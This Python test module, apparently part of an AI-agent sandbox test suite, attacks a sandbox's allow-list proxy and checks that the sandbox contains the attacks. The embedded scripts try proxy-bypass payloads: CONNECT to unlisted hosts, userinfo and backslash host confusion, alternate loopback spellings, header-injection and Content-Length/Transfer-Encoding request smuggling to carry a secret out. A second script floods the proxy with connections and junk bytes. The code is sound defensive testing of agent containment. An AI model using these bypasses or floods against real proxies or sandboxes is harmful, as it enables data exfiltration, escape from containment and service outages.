"""Attacks through the one way out that a box can have, its allow-list's proxy: to reach what is not listed, and to
bring down who carries it."""

from __future__ import annotations

from agentgym.testing.sandbox_abuse.attack import Attack, Scene, attack, require, told, within
from agentgym.testing.sandbox_abuse.reach import CALLS, NAMES, OUTSIDE, TUNNELS, Listeners
from agentgym.testing.sandbox_conformance.network import HostServer

# Every way to say "listed" and mean another: each is sent as it stands, and what comes back is looked at.
SMUGGLE = """
import json, os, socket
proxy = ("127.0.0.1", int(os.environ["http_proxy"].rsplit(":", 1)[1]))
listed, secret = "127.0.0.1:%(listed)d", "%(secret)s"
def said(data, patience=20):
    got = b""
    try:
        with socket.create_connection(proxy, patience) as s:
            s.sendall(data.encode("latin-1"))
            while b"\\r\\n\\r\\n" not in got:
                more = s.recv(4096)
                if not more: break
                got += more
    except OSError: pass
    return got[:40].decode("latin-1")
asked = {}
for host, port in %(targets)s:
    there = f"[{host}]:{port}" if ":" in host else f"{host}:{port}"
    asked["CONNECT " + there] = f"CONNECT {there} HTTP/1.1\\r\\nHost: {listed}\\r\\n\\r\\n{secret}"
    asked["GET " + there] = f"GET http://{there}/{secret} HTTP/1.1\\r\\nHost: {listed}\\r\\n\\r\\n"
    asked["user " + there] = f"CONNECT {listed}@{there} HTTP/1.1\\r\\n\\r\\n{secret}"
    asked["user of GET " + there] = f"GET http://{listed}@{there}/{secret} HTTP/1.1\\r\\n\\r\\n"
    asked["backslash " + there] = f"GET http://{listed}\\\\@{there}/{secret} HTTP/1.1\\r\\n\\r\\n"
    asked["newline " + there] = f"CONNECT {listed} HTTP/1.1\\nCONNECT {there} HTTP/1.1\\r\\n\\r\\n{secret}"
    asked["two targets " + there] = f"CONNECT {listed} {there} HTTP/1.1\\r\\n\\r\\n{secret}"
for name in %(names)s:
    asked["name " + name] = f"CONNECT {name}:80 HTTP/1.1\\r\\n\\r\\n{secret}"
port = %(unlisted)d
for spelling in ("127.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.0.0.1.", "localhost", "LOCALHOST.", "[::ffff:127.0.0.1]",
    "[::1]", "0.0.0.0", "0", "127.0.0.1%%00", "127.0.0.1\\0.org", "%%31%%32%%37.0.0.1"):
    asked["spelled " + spelling] = f"CONNECT {spelling}:{port} HTTP/1.1\\r\\n\\r\\n{secret}"
through = [name for name, data in asked.items() if said(data).startswith("HTTP/1.1 200")]
# behind a request that is let through: a second one, for another host, in the same connection
said(f"GET http://{listed}/first HTTP/1.1\\r\\nConnection: keep-alive\\r\\n\\r\\nGET /{secret} HTTP/1.1\\r\\nHost: inner.secret\\r\\n\\r\\n")
said(f"POST http://{listed}/first HTTP/1.1\\r\\nContent-Length: 4\\r\\nContent-Length: 0\\r\\n\\r\\nGET /{secret} HTTP/1.1\\r\\n\\r\\n")
said(f"POST http://{listed}/first HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /{secret} HTTP/1.1\\r\\n\\r\\n")
print(json.dumps([len(asked), through]))
"""  # noqa: E501
FLOOD = """
import json, os, socket, time
proxy = ("127.0.0.1", int(os.environ["http_proxy"].rsplit(":", 1)[1]))
held, sent, began = [], 0, time.monotonic()
def call():
    s = socket.socket(); s.settimeout(1); s.connect(proxy); s.setblocking(False); return s
while len(held) < 300 and time.monotonic() - began < 4:
    try: held.append(call())
    except OSError: break
for s in held:
    for junk in (b"CONNECT %(listed)s HTTP/1.1\\r\\n\\r\\n", os.urandom(300_000), b"\\r\\n" * 50_000):
        try: sent += s.send(junk)
        except OSError: break
for s in held: s.close()
for _ in range(200):
    try: call().close()
    except OSError: break
print(json.dumps([len(held), sent]))
"""
ALIVE = """
import http.client, json, os
address = os.environ["http_proxy"].removeprefix("http://")
for attempt in range(40):
    try:
        c = http.client.HTTPConnection(address, timeout=5)
        c.request("GET", "http://%(listed)s/alive")
        print(json.dumps(c.getresponse().read().decode()))
        break
    except OSError: __import__("time").sleep(0.25)
"""


@attack("asks the proxy of an allow-list for all that is not listed: other ports, addresses, names, smuggled requests")
def exfiltration_through_an_allow_list(scene: Scene) -> str:
    with HostServer().serving() as server, Listeners().listening() as host:
        listed = f"127.0.0.1:{server.port}"
        box = scene.box(allow_network=(listed,))
        unlisted = next(port for address, port in host.addresses if address == "127.0.0.1")
        values = {"secret": scene.nonce, "names": NAMES, "listed": server.port, "unlisted": unlisted}
        targets = [*host.addresses, *OUTSIDE]
        reached, interfaces = told(box, CALLS % {**values, "targets": targets, "paths": host.paths}, timeout_s=90)
        asked, through = told(box, SMUGGLE % {**values, "targets": targets}, timeout_s=120)
        heard = host.hear_out(30.0 if reached or through else 0.0)
        require(not heard, f"the host heard it on {heard}")
        require(not reached, f"reached {reached} without the proxy")
        require(not through, f"the proxy let through {through}")
        require(set(interfaces) <= {"lo"} | TUNNELS, f"the box has the interfaces {interfaces}")
        require(all(scene.nonce not in path for path in server.heard), f"smuggled to the listed host: {server.heard}")
        require(server.heard == ["/first"], f"the listed host heard {server.heard}, and /first was sent to it")
        within(lambda: box.network.refused >= asked)  # a connection is written down when it has ended
        refused = box.network.refused
        require(refused >= asked, f"{asked} requests were refused, and {refused} are written down")
    return (
        f"{refused} requests refused and written down; the listed host heard what was sent to it, and nothing else did"
    )


@attack("floods the proxy of an allow-list with connections, endless requests and bytes that it never reads back")
def flood_through_an_allow_list(scene: Scene) -> str:
    with HostServer().serving() as server:
        listed = f"127.0.0.1:{server.port}"
        box = scene.box(allow_network=(listed,), network_mb=64)
        held, sent = told(box, FLOOD % {"listed": listed}, timeout_s=60)
        word = told(box, ALIVE % {"listed": listed}, timeout_s=60)
        require(word == "/alive", f"the way out no longer works after the flood, it says {word!r}")
        seen = box.network
        require(seen.sent_bytes + seen.received_bytes <= 64 * 2**20, f"more than 64 MiB went through: {seen}")
        ending = scene.check_usable(box)
    return f"{held} connections and {sent >> 10} KiB of junk at once; {seen.sent_bytes >> 10} KiB went on; {ending}"


ATTACKS: tuple[Attack, ...] = (exfiltration_through_an_allow_list, flood_through_an_allow_list)
